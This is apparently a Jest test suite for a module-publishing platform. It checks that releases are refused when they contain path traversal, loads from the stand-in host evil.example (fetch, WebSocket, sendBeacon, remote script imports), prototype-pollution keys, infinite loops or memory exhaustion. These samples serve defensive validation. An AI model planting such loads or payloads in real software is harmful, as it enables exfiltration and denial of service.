import { randomBytes } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Release } from '@sahn/contracts/releases/release';
import { PublishedSchema } from '@sahn/contracts/releases/release-sizes';
import request from 'supertest';
import * as v from 'valibot';
import { verifyAuditLog } from '../audit-log/audit-log.ts';
import { sha256Hex } from '../digest/canonical-json.ts';
import { repeats } from '../testing/long-run.ts';
import { buildModule, buildShell, type ModuleOptions, relist } from '../testing/release-fixtures.ts';
import { startSite, type TestSite } from '../testing/start-site.ts';
import { describeOnOneDatabase } from '../testing/test-store.ts';

jest.setTimeout(60_000);

let test: TestSite;

beforeAll(async () => {
  test = await startSite();
  await test.release(buildShell(), buildModule('books', { slots: { 'books-strip': "return 'strip'" } }));
});

afterAll(() => test.close());

const bearer = () => ({ authorization: `Bearer ${test.token}` });

describe('blobs', () => {
  const data = Buffer.from('some bytes');
  const hash = sha256Hex(data);

  it('takes bytes that hash to their name and no others', async () => {
    const put = (sha256: string) =>
      request(test.platform)
        .put(`/blobs/${sha256}`)
        .set(bearer())
        .type('application/octet-stream')
        .send(data);
    const wrong = 'a'.repeat(64);
    expect((await put(wrong)).status).toBe(422);
    expect((await put('../../etc')).status).toBe(404);
    expect((await put(hash)).status).toBe(204);
    const answer = await request(test.platform)
      .post('/blobs/missing')
      .set(bearer())
      .send({ hashes: [hash, wrong] });
    expect(answer.body).toEqual({ missing: [wrong] });
  });

  it('refuses more than five megabytes', async () => {
    const large = Buffer.alloc(5_000_001);
    const { status } = await request(test.platform)
      .put(`/blobs/${sha256Hex(large)}`)
      .set(bearer())
      .type('application/octet-stream')
      .send(large);
    expect(status).toBe(413);
  });
});

describeOnOneDatabase('a module whose pages do not come', () => {
  it("does not hold another team's publish", async () => {
    const token = async (module: string) =>
      (await test.services.tokens.create({ scope: [module], acts: ['publish'] }, 'test')).token;
    const ended: string[] = [];
    // Suggestions never come here: the page waits until its time is over.
    const slow = buildModule('slow', { loaders: { slow: "await api.suggest('x')" } });
    const hanging = test.publish(slow, await token('slow')).then((response) => {
      ended.push('slow');
      return response;
    });
    const other = await test.publish(buildModule('quick'), await token('quick'));
    ended.push('quick');
    expect(other.status).toBe(201);
    const { status, body } = await hanging;
    expect(ended).toEqual(['quick', 'slow']);
    expect(status).toBe(422);
    expect(body.detail).toContain('/en/slow cannot be rendered');
  });
});

describe('publishing', () => {
  const larger = (length: number) =>
    buildModule('books', {
      seed: `larger by ${length}`,
      slots: { 'books-strip': "return 'strip'" },
      spoil(release, files) {
        files['web/chunk.js'] = `/* ${noise(length)} */`;
        relist(release, files);
      },
    });

  it('says how large its pages are, beside those of the live release', async () => {
    const { status, body } = await test.publish(larger(8_000));
    expect(status).toBe(201);
    const { sizes, live } = v.parse(PublishedSchema, body);
    expect(Object.keys(sizes?.pages ?? {})).toEqual(['books', 'books-strip']);
    expect(sizes?.pages.books?.scripts).toBeGreaterThan(5_900 + (live?.pages.books?.scripts ?? 0));
    expect(sizes?.pages.books?.styles).toBe(live?.pages.books?.styles);
    const refused = (await test.publish(larger(45_000))).body.detail;
    const [all, more] =
      /^books: its scripts have ([\d,]+) bytes with Brotli, ([\d,]+) more than the live release/
        .exec(refused)
        ?.slice(1)
        .map((count) => Number(count.replace(',', ''))) ?? [0, 0];
    expect(more).toBe(Number(all) - Number(live?.pages.books?.scripts));
  });

  it('is not counted again when it is sent again, nor what was activated with it', async () => {
    const built = buildModule('books', { seed: 'replay', slots: { 'books-strip': "return 'strip'" } });
    const { release } = built;
    await test.publish(built);
    const before = await seenByVisitors();
    const base = (await test.services.compositions.live())?.number ?? 0;
    const replay = () =>
      request(test.platform)
        .post('/compositions')
        .set(bearer())
        .send({ base: base - 1, releases: { books: release.version } });
    expect((await test.publish(built)).status).toBe(200);
    expect((await replay()).status).toBe(412);
    expect(await seenByVisitors()).toEqual(before);
  });

  it('checks a file by the rules of its own module, though another module has had the same file', async () => {
    const withSheet = (name: string) =>
      buildModule(name, {
        spoil(release, files) {
          files['web/style.css'] = '@keyframes albums-turn { to { rotate: 1turn } }';
          relist(release, files);
        },
      });
    expect((await test.publish(withSheet('albums'))).status).toBe(201);
    const { status, body } = await test.publish(withSheet('films'));
    expect([status, body.detail]).toEqual([
      422,
      expect.stringContaining('@keyframes albums-turn is a name for the whole page'),
    ]);
  });

  it('takes a release in once', async () => {
    const built = buildModule('gallery');
    expect((await test.publish(built)).status).toBe(201);
    expect((await test.publish(built)).status).toBe(200);
  });

  it('takes a release whose links in the navigation still have a `place`, and leaves it as it is', async () => {
    const nav = [{ route: 'early', label: 'early.title', place: 'read' as const, order: 1 }];
    const early = buildModule('early', { spoil: ({ manifest }) => Object.assign(manifest, { nav }) });
    expect((await test.publish(early)).status).toBe(201);
    expect((await test.publish(early)).status).toBe(200);
    const stored = await test.services.releases.find('early', early.release.version);
    expect(stored).toMatchObject({ manifest: { nav } });
  });

  it('refuses other bytes under a version that is taken, and keeps the first', async () => {
    const first = buildModule('music');
    await test.publish(first);
    const other = buildModule('music');
    other.files['web/chunk.js'] = '/* changed */';
    relist(other.release, other.files);
    const { status, body } = await test.publish(other);
    expect(status).toBe(409);
    expect(body.code).toBe('conflict');
    const kept = await test.services.releases.find('music', first.release.version);
    expect(kept?.files).toEqual(first.release.files);
  });

  it('lets one of many different releases with the same version win', async () => {
    const candidates = Array.from({ length: 12 }, (_, at) => {
      const built = buildModule('race');
      built.files['web/chunk.js'] = `/* ${at} */`;
      relist(built.release, built.files);
      return built;
    });
    const answers = await Promise.all(candidates.map((built) => test.publish(built)));
    const statuses = answers.map((answer) => answer.status).sort();
    expect(statuses).toEqual([201, ...Array(11).fill(409)]);
  });

  it('stays within the address', async () => {
    const { release } = buildModule('lost');
    const { status } = await request(test.platform)
      .put(`/releases/other/${release.version}`)
      .set(bearer())
      .send(release);
    expect(status).toBe(400);
  });
});

/** Text that no compression makes smaller than three quarters. */
function noise(length: number): string {
  return randomBytes((length * 3) / 4).toString('base64');
}

/** What is live, byte by byte. */
async function seenByVisitors(): Promise<unknown[]> {
  const pages = ['/en/books', '/ur/books', '/fa/'].map((path) =>
    request(test.site).get(path).set('host', 'localhost:8080'),
  );
  const live = await test.services.compositions.live();
  return [live?.number, ...(await Promise.all(pages)).map(({ status, text }) => [status, text])];
}

describeOnOneDatabase('a release is refused', () => {
  const changed =
    (files: Record<string, string>): ModuleOptions['spoil'] =>
    (release, all) => {
      Object.assign(all, files);
      relist(release, all);
    };
  const description =
    (change: (release: Release & { kind: 'module' }) => void): ModuleOptions['spoil'] =>
    (release) =>
      change(release);
  const file = { bytes: 2, sha256: sha256Hex('{}') };

  const isLong = repeats(0, 1) === 1;
  const endless: [string, RegExp, ModuleOptions] = [
    'a bundle that is never loaded',
    /longer than/,
    { atLoad: 'for (;;);' },
  ];

  it.each<[string, RegExp, ModuleOptions]>([
    [
      'a path that climbs',
      /files\.0\.path/,
      { spoil: description((r) => (r.files = [{ path: 'web/../x.js', ...file }])) },
    ],
    ['an ending that is not allowed', /not allowed/, { spoil: changed({ 'web/run.sh': 'x' }) }],
    ['files that differ by case alone', /case/, { spoil: changed({ 'web/Entry.js': 'x' }) }],
    ['a file in a file', /lies in another file/, { spoil: changed({ 'web/entry.js/a.js': 'x' }) }],
    ['half a character', /not Unicode/, { spoil: description((r) => (r.requires = { react: '\ud800' })) }],
    ['a script that does not compile', /does not compile/, { spoil: changed({ 'web/chunk.js': 'let = ;' }) }],
    ['broken JSON', /is not JSON/, { spoil: changed({ 'web/locales/fa.json': '{' }) }],
    [
      'strings that are no strings',
      /one object of strings/,
      { spoil: changed({ 'web/locales/fa.json': '{"a":1}' }) },
    ],
    [
      'foreign styles',
      /another site/,
      { spoil: changed({ 'web/style.css': '@import/**/ url("//evil.example/x.css")' }) },
    ],
    [
      'a language without a key',
      /^fa: the string bad\.extra is missing\nar: .*\nur: [^\n]*$/,
      {
        spoil: changed({
          'web/locales/en.json': '{"bad.title":"a","bad.description":"b","bad.extra_one":"c"}',
        }),
      },
    ],
    [
      'a misspelled key, which is told of the language that has it',
      /^fa: the string bad\.title is missing\nfa: the string bad\.titel is not in en$/,
      { spoil: changed({ 'web/locales/fa.json': '{"bad.titel":"a","bad.description":"b"}' }) },
    ],
    [
      'a key in the code that no language has',
      /^en: the string bad\.lede is missing, which the code uses\nen: the string state\.… is missing, which the code uses$/,
      {
        spoil: description(
          (r) => (r.keys = { whole: ['bad.title', 'bad.lede'], prefixes: ['bad.', 'state.'] }),
        ),
      },
    ],
    [
      'styles of the whole page',
      /^web\/style\.css: body styles what is not the module's$/,
      { spoil: changed({ 'web/style.css': '@layer module{body{color:red}}' }) },
    ],
    ['a development build', /development build/, { spoil: description((r) => (r.mode = 'development')) }],
    [
      'a key that manifests do not have',
      /^manifest\.rotes: there is no such key$/,
      { spoil: description((r) => Object.assign(r.manifest, { rotes: [] })) },
    ],
    [
      'an address by content without a hash of the content',
      /^web\/entry\.js: its name has no content hash/,
      { spoil: description((r) => (r.addresses = 'content')) },
    ],
    [
      'a title without a string',
      /en: the string bad\.title is missing/,
      {
        spoil: changed(
          Object.fromEntries(
            ['en', 'fa', 'ar', 'ur'].map((l) => [`web/locales/${l}.json`, '{"bad.description":""}']),
          ),
        ),
      },
    ],
    [
      'a language without a file',
      /no file for ar/,
      {
        spoil: description(
          (r) =>
            (r.locales = { en: 'web/locales/en.json', fa: 'web/locales/fa.json', ur: 'web/locales/ur.json' }),
        ),
      },
    ],
    ['another global', /global: it must be/, { spoil: description((r) => (r.global = 'react')) }],
    ["another module's manifest", /its name is/, { spoil: description((r) => (r.manifest.name = 'books')) }],
    [
      'a page without a chunk',
      /chunks: there is none for bad/,
      { spoil: description((r) => (r.chunks = {})) },
    ],
    [
      'an entry that is not there',
      /not among the files/,
      { spoil: description((r) => (r.entry = 'web/none.js')) },
    ],
    [
      'an entry of the server side in the browser',
      /must be below web/,
      {
        spoil: description((r) => (r.entry = 'server/module.cjs')),
      },
    ],
    [
      'bytes that were not sent',
      /were not sent/,
      {
        spoil: description((r) => r.files.push({ path: 'web/new.js', bytes: 1, sha256: 'b'.repeat(64) })),
      },
    ],
    [
      'a size that is not so',
      /has \d+ bytes, not/,
      {
        spoil: description((r) => (r.files = r.files.map((one) => ({ ...one, bytes: one.bytes + 1 })))),
      },
    ],
    ['unknown keys', /extra/, { spoil: description((r) => Object.assign(r, { extra: 1 })) }],
    ['a shared package that the shell lacks', /does not share/, { requires: { vue: '^3.0.0' } }],
    ['a shared package in another version', /needs react \^99/, { requires: { react: '^99.0.0' } }],
    ['another shell', /needs a shell of/, { manifest: { shell: '^2.0.0' } }],
    ["another module's path", /claims the path books/, { pages: { books: "return ''" } }],
    ["another module's slot entry", /claims the slot entry/, { slots: { 'books-strip': "return ''" } }],
    ['a bundle that throws', /bad does not load: .*boom/, { atLoad: "throw new Error('boom')" }],
    // It takes the processor until the time of two processes to start is over.
    ...(isLong ? [endless] : []),
    ['an undeclared dependency', /neither shared/, { atLoad: "require('lodash')" }],
    [
      'a page that throws',
      /bad fails at bad on \/en\/bad: .*boom/,
      { pages: { bad: "throw new Error('boom')" } },
    ],
    ['a page that never ends', /\/en\/bad cannot be rendered/, { pages: { bad: 'for (;;);' } }],
    [
      'a page that eats memory',
      /\/en\/bad cannot be rendered/,
      {
        pages: { bad: 'const all = []; for (;;) all.push(new Array(1e5).fill(all.length));' },
      },
    ],
    [
      'a page that leaves',
      /bad fails at bad on \/en\/bad: .*process\.exit/,
      { pages: { bad: 'process.exit(3)' } },
    ],
    ['a slot that throws', /bad fails at bad-strip/, { slots: { 'bad-strip': "throw new Error('boom')" } }],
    // Scripts for browsers.
    [
      '`eval` in a script',
      /^web\/chunk\.js: calls `eval\(`.* \(2:1\)$/,
      { spoil: changed({ 'web/chunk.js': '\neval("1")' }) },
    ],
    [
      'code that is made of a text',
      /makes code of a text/,
      { spoil: changed({ 'web/chunk.js': "(() => new Function('return 1'))()" }) },
    ],
    ...[
      'fetch(U)',
      'new Worker(U)',
      'new WebSocket(U)',
      'navigator.sendBeacon(U, 1)',
      'importScripts(U)',
    ].map((call): [string, RegExp, ModuleOptions] => [
      `a load from another site: ${call}`,
      /loads `(https|wss):\/\/evil\.example\/x` with \w+: a page loads from this site alone/,
      {
        spoil: changed({
          'web/chunk.js': `(() => ${call.replace('U', `'${call.includes('Socket') ? 'wss' : 'https'}://evil.example/x'`)})()`,
        }),
      },
    ]),
    [
      'a load from another site: a template',
      /loads `\/\/evil\.example\/` with fetch/,
      { spoil: changed({ 'web/chunk.js': '(() => fetch(`//evil.example/`))()' }) },
    ],
    [
      'an import from another site',
      /imports `https:\/\/evil\.example\/x\.js`/,
      { spoil: changed({ 'web/chunk.js': "import('https://evil.example/x.js')" }) },
    ],
    [
      'a picture of another site',
      /loads `https:\/\/evil\.example\/x\.png` as src/,
      { spoil: changed({ 'web/chunk.js': "(() => ({ src: 'https://evil.example/x.png' }))()" }) },
    ],
    [
      'a script of another site, as an attribute',
      /loads `https:\/\/evil\.example\/x\.js`/,
      {
        spoil: changed({
          'web/chunk.js':
            "(() => { const s = document.createElement('script'); s.setAttribute('src', 'https://evil.example/x.js') })()",
        }),
      },
    ],
    [
      'a global of its own',
      /writes the global `window\.jQuery`/,
      { spoil: changed({ 'web/chunk.js': '(() => { window.jQuery = 1 })()' }) },
    ],
    [
      'a declaration for the whole page',
      /declares the global `books_1`/,
      { spoil: changed({ 'web/chunk.js': 'var books_1 = {}' }) },
    ],
    [
      "the container of another module's name",
      /does not declare the global `bad_1_0_0_/,
      { spoil: changed({ 'web/entry.js': 'var books_1_0_0 = {}' }) },
    ],
    [
      "the chunks of another module's build",
      /writes the global `self\.webpackChunkbooks`/,
      { spoil: changed({ 'web/chunk.js': '(self.webpackChunkbooks ||= []).push([])' }) },
    ],
    [
      "another module's folder as its own",
      /loads from `\/modules\/books\/`/,
      { spoil: changed({ 'web/chunk.js': "(() => { const r = {}; r.p = '/modules/books/web/' })()" }) },
    ],
    [
      'a newer React that it would share',
      /provides `react` 99\.0\.0: the shell alone/,
      { spoil: changed({ 'web/chunk.js': "((register) => register('react', '99.0.0', () => 1))()" }) },
    ],
    [
      'a newer React in a list of what it shares',
      /provides `react` 99\.0\.0/,
      {
        spoil: changed({
          'web/chunk.js': "(() => [{ name: 'react', version: '99.0.0', factory: () => 1 }])()",
        }),
      },
    ],
    [
      'a React of its own',
      /contains `react` or `react-dom`/,
      {
        spoil: changed({
          'web/chunk.js':
            '((e) => { e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE = {} })({})',
        }),
      },
    ],
    [
      'a script that is nested without end',
      /nested too deeply/,
      { spoil: changed({ 'web/chunk.js': `(${'['.repeat(200_000)}${']'.repeat(200_000)})` }) },
    ],
    [
      'a page beyond the budget',
      /^bad: its scripts have 3[\d,]+ bytes with Brotli; the budget is 30,000\. The largest: web\/chunk\.js 3[\d,]+$/,
      { spoil: changed({ 'web/chunk.js': `/* ${noise(45_000)} */` }) },
    ],
    [
      'a page beyond the budget of its own',
      /^bad: its styles have \d+ bytes with Brotli; the budget is 10\./,
      { manifest: { budget: { styles: 10 } } },
    ],
    // Keys that would change every object.
    ...['__proto__', 'constructor', 'prototype'].map((key): [string, RegExp, ModuleOptions] => [
      `${key} as a name`,
      /requires|there is no such key|does not share/,
      { spoil: description((r) => (r.requires = JSON.parse(`{"${key}":"*","polluted":"*"}`))) },
    ]),
    // Server bundles that load, and are wrong.
    [
      'a bundle without what it should expose',
      /bad does not load: .*exports no `exposed`/,
      { spoil: changed({ 'server/module.cjs': 'exports.other = 1' }) },
    ],
    [
      'a bundle without one of its pages',
      /bad fails at bad on \/en\/bad/,
      { spoil: changed({ 'server/module.cjs': 'exports.exposed = { routes: {}, slots: {} }' }) },
    ],
    [
      'a page that is no function',
      /bad fails at bad on \/en\/bad/,
      { spoil: changed({ 'server/module.cjs': "exports.exposed = { routes: { bad: 'text' }, slots: {} }" }) },
    ],
    ['a page that returns what is no text', /bad fails at bad/, { pages: { bad: "return Symbol('x')" } }],
    [
      'a page that fails in one language only',
      /^bad fails at bad on \/ur\/bad: .*only in Urdu$/,
      { pages: { bad: "if (locale === 'ur') throw new Error('only in Urdu')" } },
    ],
    [
      'a chunk of the server that is missing',
      /bad does not load: .*gone\.cjs/,
      { atLoad: "require('./gone.cjs')" },
    ],
    [
      'a page that writes a global',
      /bad fails at bad.*(extensible|Cannot add)/,
      { pages: { bad: "(() => { 'use strict'; globalThis.evil = 1 })(); return ''" } },
    ],
    ['a reach for the network', /fetch is not defined/, { pages: { bad: "fetch('http://localhost')" } }],
    ['a reach for the disk', /neither shared/, { atLoad: "require('node:fs')" }],
  ])(
    'for %s',
    async (name, reason, options) => {
      const before = await seenByVisitors();
      const publishing = test.publish(buildModule('bad', { seed: name, ...options }));
      expect(await seenByVisitors()).toEqual(before);
      const { status, body } = await publishing;
      expect([status, body.code]).toEqual([422, 'release-refused']);
      expect(body.detail).toMatch(reason);
      expect(await seenByVisitors()).toEqual(before);
      expect(Object.keys(Object.prototype)).toEqual([]);
    },
    30_000,
  );

  it('before other requests have to wait for its checks', async () => {
    const order: string[] = [];
    const long = `(() => [${'"a string of some length",'.repeat(180_000)}])(); eval('1')`;
    const slow = buildModule('bad', { seed: 'long', spoil: changed({ 'web/chunk.js': long }) });
    // Its files are stored then: what follows is the check alone.
    await test.publish(slow);
    const { name, version } = slow.release;
    const publishing = request(test.platform)
      .put(`/releases/${name}/${version}`)
      .set(bearer())
      .send(slow.release)
      .then(({ body }) => order.push(body.code));
    await seenByVisitors();
    order.push('visitors');
    await publishing;
    expect(order).toEqual(['visitors', 'release-refused']);
  });

  it('and leaves no trace but the files of those that were taken', async () => {
    expect((await test.services.releases.list()).map((release) => release.name)).not.toContain('bad');
    const folders = await readdir(join(test.data, 'releases', 'bad')).catch(() => []);
    expect(folders.filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('while the site stays as it is', async () => {
    const { text } = await request(test.site).get('/en/books').set('host', 'localhost:8080');
    expect(text).toContain('books page');
  });
});

describe('a shell and a module that change together', () => {
  const shell = buildShell({ seed: 'next', plain: '1.1.0', provides: { react: '20.0.0' } });

  it('can be published one after the other', async () => {
    const books = buildModule('books', { seed: 'next', requires: { react: '^20.0.0' } });
    expect((await test.publish(books)).status).toBe(422);
    expect((await test.publish(shell)).status).toBe(201);
    expect((await test.publish(books)).status).toBe(201);
  });

  it('do not hide from a module that fits neither them nor the live site what the live site shares', async () => {
    expect((await test.publish(shell)).ok).toBe(true);
    const old = buildModule('books', { seed: 'old', requires: { react: '^18.0.0' } });
    const { status, body } = await test.publish(old);
    expect([status, body.detail]).toEqual([
      422,
      expect.stringMatching(/needs react \^18\.0\.0; .* shares 19\./),
    ]);
  });
});

it('keeps a log whose chain holds', async () => {
  const verdict = await verifyAuditLog(test.database);
  expect(verdict.broken).toBeNull();
  expect(verdict.lines).toBeGreaterThan(5);
  await test.database.updateTable('audit_log').set({ actor: 'nobody' }).where('id', '=', 3).execute();
  expect((await verifyAuditLog(test.database)).broken).toBe(3);
});
